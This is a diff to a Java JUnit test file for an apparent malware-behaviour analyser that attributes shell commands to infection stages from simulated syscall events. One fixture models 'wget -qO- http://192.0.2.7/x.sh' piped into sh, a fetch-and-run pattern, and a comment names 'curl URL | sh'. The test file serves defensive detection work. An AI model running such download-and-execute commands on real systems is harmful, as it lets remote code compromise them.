@@ -9,6 +9,8 @@ import java.util.Optional;
 import java.util.OptionalInt;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 import org.malassay.behavior.Endpoint;
 import org.malassay.behavior.Event;
 import org.malassay.behavior.Origin;
@@ -29,6 +31,7 @@ class InfectionFoldTest {
   void aSessionStandsAtThePrompt() {
     fold.accept(new ProcessBegun(Duration.ZERO, Origin.GUEST, TYPIST, 1));
     start(TYPIST, "/tmp/session", "/usr/local/sbin/malassay-login", "/tmp/session");
+    begin(SHELL, 1);
     start(SHELL, "/bin/busybox", "-sh");
   }
 
@@ -340,9 +343,92 @@ class InfectionFoldTest {
     type(2);
     call(21, "chdir", "", "/tmp", "\"/tmp\"");
     call(22, "chdir", "", "/mnt", "\"/mnt\"");
+    assertStagesOfCommands("1 [1, 2]", "2 [2]");
+  }
+
+  private void assertStagesOfCommands(String... commandsAndStages) {
     assertThat(fold.commands())
         .extracting(seen -> seen.number() + " " + seen.stages())
-        .containsExactly("1 [1, 2]", "2 [2]");
+        .containsExactly(commandsAndStages);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "--norc",
+        "--rcfile /tmp/c",
+        "--init-file c -i",
+        "-o vi",
+        "-O extglob",
+        "-",
+        "-s c"
+      })
+  void aShellWithOptionsOnlyTakesTheNextCommands(String options) {
+    type(1);
+    begin(21, SHELL);
+    start(21, "/bin/bash", ("bash " + options).split(" ", -1));
+    type(2);
+    call(21, "chdir", "", "/tmp", "\"/tmp\"");
+    assertStagesOfCommands("1 [1]", "2 [2]");
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"--norc -c", "-c", "-ec", "-o errexit -c", "-c -e", "--rcfile c -c"})
+  void aShellThatIsToldItsCommandsTakesNone(String options) {
+    type(1);
+    begin(21, SHELL);
+    start(21, "/bin/bash", ("bash " + options + " sleep").split(" ", -1));
+    type(2);
+    call(21, "chdir", "", "/tmp", "\"/tmp\"");
+    assertStagesOfCommands("1 [1, 2]");
+  }
+
+  @Test
+  void whatTheLoginsShellExecutesInItsPlaceIsOfThatCommand() {
+    type(1);
+    type(2);
+    start(SHELL, "/bin/sh", "sh", "-c", "sleep 9; cd /tmp");
+    type(3);
+    call(SHELL, "chdir", "", "/tmp", "\"/tmp\"");
+    assertStagesOfCommands("2 [1, 2]");
+  }
+
+  @Test
+  void aFileThatTheLoginsShellGoesOnWithIsOfThatCommand() {
+    type(1);
+    type(2);
+    call(SHELL, "dup2", "", "/tmp/s", "3", "0");
+    type(3);
+    call(SHELL, "chdir", "", "/tmp", "\"/tmp\"");
+    assertStagesOfCommands("2 [2]");
+  }
+
+  @Test
+  void aShellThatReadsAFileInTheBackgroundTakesNoCommandsUntilItReadsATerminal() {
+    type(1);
+    begin(21, SHELL);
+    call(21, "dup2", "", "/tmp/s", "3", "0");
+    start(21, "/bin/sh", "sh");
+    type(2);
+    call(21, "chdir", "", "/tmp", "\"/tmp\"");
+    call(21, "dup2", "", "/dev/tty", "3", "0");
+    call(21, "openat", "", "/proc/version", "AT_FDCWD", "\"/proc/version\"", "O_RDONLY");
+    assertStagesOfCommands("1 [1, 2]", "2 [3]");
+  }
+
+  @Test
+  void aShellThatReadsAPipeInTheBackgroundIsOfTheCommandThatBeganIt() {
+    type(1);
+    pipe(21, 22);
+    start(21, "/usr/bin/wget", "wget", "-qO-", "http://192.0.2.7/x.sh");
+    start(22, "/bin/sh", "sh");
+    type(2);
+    connect(21);
+    call(21, "write", "", "", "1", "\"id\n\"", "3");
+    call(22, "read", "", "", "0", "0x1", "8192");
+    begin(23, 22);
+    call(23, "chdir", "", "/tmp", "\"/tmp\"");
+    assertStagesOfCommands("1 [1, 2, 6a]");
   }
 
   /** As {@code curl URL | sh}, with a filter between or without. */
@@ -368,6 +454,90 @@ class InfectionFoldTest {
     call(21, "write", "", "", "1", "\"id\\n\"", "3");
     call(22, "read", "", "", "0", "0x1", "8192");
     assertReached("1", "6a");
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"-s -- x", "-s x", "-es x", "-o errexit"})
+  void argumentsOfAScriptThatIsFetchedAreNoFile(String arguments) {
+    type(1);
+    pipe(21, 22);
+    connect(21);
+    call(21, "write", "", "", "1", "\"id\n\"", "3");
+    start(22, "/bin/sh", ("sh " + arguments).split(" ", -1));
+    call(22, "read", "", "", "0", "0x1", "8192");
+    assertReached("1", "6a");
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"})
+  void theStandardInputByItsNameIsAPipeLikeAnyOther(String name) {
+    type(1);
+    pipe(21, 22);
+    connect(21);
+    call(21, "write", "", "", "1", "\"id\n\"", "3");
+    start(22, "/bin/sh", "sh", name, "x");
+    call(22, "openat", "", name, "AT_FDCWD", "\"" + name + "\"", "O_RDONLY");
+    call(22, "dup2", "", "", "3", "255");
+    call(22, "read", "", "", "255", "0x1", "1");
+    assertReached("1", "6a");
+  }
+
+  /** As {@code x=$(curl URL)}: what is fetched is no command. */
+  @Test
+  void whatAShellReadsFromAnotherPipeIsNoScript() {
+    type(1);
+    call(SHELL, "pipe2", "", "", "[3, 4]", "0");
+    begin(21, SHELL);
+    call(21, "dup2", "", "", "4", "1");
+    connect(21);
+    call(21, "write", "", "", "1", "\"id\n\"", "3");
+    call(SHELL, "read", "", "", "3", "0x1", "128");
+    assertReached();
+  }
+
+  @Test
+  void spliceWritesToItsThirdArgument() {
+    type(1);
+    pipe(21, 22);
+    start(22, "/bin/sh", "sh");
+    connect(21);
+    call(21, "splice", "", "", "0", "NULL", "5", "NULL", "4096", "0x0");
+    call(22, "read", "", "", "0", "0x1", "8192");
+    assertReached("1");
+    call(21, "splice", "", "", "5", "NULL", "1", "NULL", "4096", "0x0");
+    call(22, "read", "", "", "0", "0x1", "8192");
+    assertReached("1", "6a");
+  }
+
+  @Test
+  void aDescriptorBecomesAnotherPipeHoweverManyThereAre() {
+    type(1);
+    pipe(21, 22);
+    connect(21);
+    call(21, "write", "", "", "1", "\"id\n\"", "3");
+    for (int end = 5; end < 25; end += 2) {
+      call(22, "pipe2", "", "", "[" + end + ", " + (end + 1) + "]", "0");
+    }
+    call(22, "dup2", "", "", "5", "0");
+    start(22, "/bin/sh", "sh");
+    call(22, "read", "", "", "0", "0x1", "8192");
+    assertReached("1");
+  }
+
+  /** One that an execution has closed, say. */
+  @Test
+  void aFileThatIsOpenedIsNoPipe() {
+    type(1);
+    pipe(21, 22);
+    connect(21);
+    call(21, "write", "", "", "1", "\"id\n\"", "3");
+    call(22, "openat", "", "/dev/tty", "AT_FDCWD", "\"/dev/tty\"", "O_RDWR");
+    call(22, "dup2", "", "/dev/tty", "3", "0");
+    start(22, "/bin/sh", "sh");
+    type(2);
+    call(22, "read", "", "", "0", "0x1", "8192");
+    call(22, "chdir", "", "/tmp", "\"/tmp\"");
+    assertStagesOfCommands("1 [1]", "2 [2]");
   }
 
   @Test
